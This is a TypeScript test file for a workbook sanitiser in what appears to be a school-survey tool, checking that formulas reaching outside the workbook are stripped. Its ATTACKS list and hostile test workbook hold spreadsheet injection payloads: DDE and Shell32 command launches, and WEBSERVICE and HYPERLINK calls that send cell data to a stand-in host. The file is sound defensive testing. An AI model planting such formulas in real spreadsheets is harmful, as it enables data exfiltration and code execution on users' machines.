import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import type { QueryBook } from '../../../../src/core/model/query-book.ts'
import { isHarmless } from '../../../../src/main/workbook/queries/own-formulas.ts'
import { queryWorkbook } from '../../../../src/main/workbook/queries/query-workbook.ts'

const SHEETS = new Set(['表1', '表2'])

describe('a formula that may stand in what is sent out', () => {
  it.each(['SUM(B2:B5)', 'B2+B3*2', "'表2'!A1-表1!$B$2", 'ROUND(B2/B3*100,2)', 'IF(B2>0,B3,0)'])(
    '%s',
    (formula) => {
      expect(isHarmless(formula, SHEETS)).toBe(true)
    },
  )
})

const ATTACKS = [
  `HYPERLINK("http://x.example/?"&B2,"点这里")`,
  `WEBSERVICE("http://x.example/?"&B2)`,
  `cmd|' /C calc'!A0`,
  `DDE("cmd","/C calc","A0")`,
  `CALL("Shell32","ShellExecuteA","JJCCCJ",0,"open","calc","",0)`,
  `EXEC("calc")`,
  `[1]表1!A1`,
  `'C:\\\\[别的.xlsx]表1'!A1`,
  `'表3'!A1`,
  `IMPORTXML("http://x.example","//a")`,
  `INDIRECT("A"&1)`,
  `别名`,
  `_xlfn.WEBSERVICE("http://x.example")`,
  `SUM(B2:B5)+RTD("x","y")`,
]
describe('a formula that may not', () => {
  it.each(ATTACKS)('%s', (formula) => {
    expect(isHarmless(formula, SHEETS)).toBe(false)
  })
})

/** A return full of formulas that reach elsewhere, with names and conditional formats. */
async function hostile(): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook()
  const sheet = book.addWorksheet('表1')
  sheet.getCell('A1').value = '项目'
  ATTACKS.forEach((formula, at) => {
    sheet.getCell(at + 2, 1).value = `第${at + 1}项`
    sheet.getCell(at + 2, 2).value = { formula, result: 100 + at }
  })
  sheet.getCell('C2').value = { formula: 'SUM(D2:D3)', result: 7 }
  sheet.getCell('D2').value = 3
  sheet.getCell('D3').value = 4
  sheet.getCell('E2').value = { text: '网站', hyperlink: 'http://x.example/secret' }
  sheet.addConditionalFormatting({
    ref: 'D2:D3',
    rules: [
      {
        type: 'expression',
        priority: 1,
        formulae: ['WEBSERVICE("http://x.example/cf")=1'],
        style: {},
      },
    ],
  })
  book.definedNames.add("'表1'!$D$2", '别名')
  return new Uint8Array(await book.xlsx.writeBuffer())
}

const QUERY: QueryBook = {
  title: '年报',
  county: '某县',
  schoolYear: '2025/2026',
  dueDate: '2025-09-20',
  school: { id: '2100000001', name: '一小' },
  askedAt: '2025-09-10T08:00:00Z',
  questions: [],
  sent: [{ form: '表1', file: 'base', sheet: '表1' }],
}

it.each(['returns/一小.xlsx', 'returns/一小.xlsm'])(
  'what is sent back of %s holds their results and nothing of them',
  async (path) => {
    const bytes = await hostile()
    const written = await queryWorkbook(QUERY, () => ({ path, bytes }))
    const parts = unzipSync(written)
    const everything = Object.entries(parts)
      .filter(([name]) => name.endsWith('.xml') || name.endsWith('.rels'))
      .map(([, part]) => strFromU8(part))
      .join('\n')
    expect(everything).not.toContain('x.example')
    expect(everything).not.toMatch(
      /WEBSERVICE|HYPERLINK|DDE|Shell32|EXEC|CALL|RTD|INDIRECT|IMPORTXML|别名/u,
    )
    const formulas = [...everything.matchAll(/<f[^>]*>([^<]*)</gu)].map(([, text]) => text)
    expect(formulas).toContain('SUM(D2:D3)')
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(new Uint8Array(written).buffer)
    const sheet = book.getWorksheet('表1')
    expect(ATTACKS.map((_, at) => sheet?.getCell(at + 2, 2).value)).toEqual(
      ATTACKS.map((_, at) => 100 + at),
    )
    expect(sheet?.getCell('E2').value).toBe('网站')
  },
)
